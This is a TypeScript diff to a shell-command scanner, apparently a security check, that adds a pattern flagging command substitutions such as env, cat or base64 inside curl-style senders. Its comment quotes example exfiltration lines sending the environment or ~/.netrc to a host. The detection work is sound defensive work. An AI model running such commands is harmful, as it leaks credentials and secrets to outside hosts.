@@ -78,9 +78,8 @@ function uploadIn(command: string, nested = true): string | undefined {
       }
       continue;
     }
-    if (program === "curl") {
+    if (program === "curl" && text.startsWith("-")) {
       // Only an option's value is read, and only a word starting with `-` is one.
-      if (!text.startsWith("-")) continue;
       const short = CURL_SHORT.exec(text);
       const option = short ? `-${short[1]}` : text;
       const after = next.done ? undefined : next.value;
@@ -100,6 +99,9 @@ function uploadIn(command: string, nested = true): string | undefined {
     } else if (/^-infile$/i.test(text)) {
       return `sends a file with ${program}`;
     }
+    // nc sends what it is fed, read above, not its arguments.
+    const dump = /^(?:nc|ncat|netcat)$/.test(program) ? null : DUMP.exec(raw);
+    if (dump !== null) return `sends the output of ${dump[1]} with ${program}`;
   }
   return undefined;
 }
@@ -122,6 +124,15 @@ function readsFile(command: string): boolean {
   }
   return false;
 }
+
+/**
+ * A substitution, in any word of a sender's command, of a command whose output is the environment
+ * (`env`, `printenv`, `export`, `declare`, `set`, `compgen`) or a file's bytes (`cat`, `base64`): sent in a URL or a
+ * header as surely as with `-d` (`curl "https://x/?d=$(env | base64 -w0)"`, `-H "X: $(cat ~/.netrc)"`), which
+ * a hostile bump wrote. Not any command: `-H "Authorization: Bearer $(gcloud auth print-access-token)"`
+ * sends a token to the API it is for.
+ */
+const DUMP = /(?:\$\(|`)\s*(env|printenv|export|declare|set|compgen|cat|base64)\b/;
 
 /** A socket bash opens when it is redirected to or from it. */
 const NETWORK_FILE = /^\/dev\/(?:tcp|udp)\//i;
